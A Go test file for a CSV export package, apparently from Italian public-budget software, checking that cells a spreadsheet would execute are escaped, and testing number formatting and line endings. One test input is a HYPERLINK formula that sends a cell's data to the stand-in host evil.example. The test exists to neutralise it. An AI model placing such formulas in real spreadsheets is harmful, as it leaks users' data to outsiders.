package csvfile_test

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"

	"github.com/ambiti/ambiti/internal/csvfile"
)

func TestTextThatASpreadsheetWouldRunIsNeutralised(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?d="&B2,"Dettagli")`: `'=HYPERLINK("http://evil.example/?d="&B2,"Dettagli")`,
		"+39 030 1234":     "'+39 030 1234",
		"-5%":              "'-5%",
		"@SUM(A1:A9)":      "'@SUM(A1:A9)",
		"\t=1+1":           "'\t=1+1",
		"\r=1+1":           "'\r=1+1",
		"\x00=1+1":         "'\x00=1+1",
		"＝1+1":             "'＝1+1",
		"":                 "",
		"Tutela minori":    "Tutela minori",
		"<5":               "<5",
		"Sì – a=b, c+d":    "Sì – a=b, c+d",
		"'già protetto":    "'già protetto",
		"àèìòù = formula?": "àèìòù = formula?",
	} {
		if got := csvfile.Text(in); got != want {
			t.Errorf("Text(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestTheOneFormat(t *testing.T) {
	var buf bytes.Buffer
	w := csvfile.NewWriter(&buf)
	if err := w.WriteStrings([]string{"Titolo", "Stanziato €", "%", "N", "Media"}); err != nil {
		t.Fatal(err)
	}
	pct := 93.27
	if err := w.Write("=1+1", csvfile.Cents(-123456789), csvfile.Decimal{Value: pct, Places: 1}, 7, &pct); err != nil {
		t.Fatal(err)
	}
	if err := w.Write("a;b", csvfile.Cents(5), nil, int64(-3), (*float64)(nil)); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	data, ok := bytes.CutPrefix(buf.Bytes(), []byte("\xef\xbb\xbf"))
	if !ok {
		t.Fatal("no UTF-8 BOM")
	}
	if bytes.Count(data, []byte("\r\n")) != 3 {
		t.Errorf("lines do not end with CRLF: %q", data)
	}
	r := csv.NewReader(bytes.NewReader(data))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, want := range [][]string{
		{"Titolo", "Stanziato €", "%", "N", "Media"},
		// A negative amount stays a number; only text is neutralised.
		{"'=1+1", "-1.234.567,89", "93,3", "7", "93,27"},
		{"a;b", "0,05", "", "-3", ""},
	} {
		if !slices.Equal(recs[i], want) {
			t.Errorf("record %d = %q, want %q", i, recs[i], want)
		}
	}
}

func TestAnUnknownCellTypeIsRefusedNotPrinted(t *testing.T) {
	var buf bytes.Buffer
	w := csvfile.NewWriter(&buf)
	if err := w.Write([]byte("=1+1")); err == nil {
		t.Fatal("a []byte cell was accepted")
	}
	if err := w.Flush(); err == nil {
		t.Fatal("Flush does not report the earlier error")
	}
}
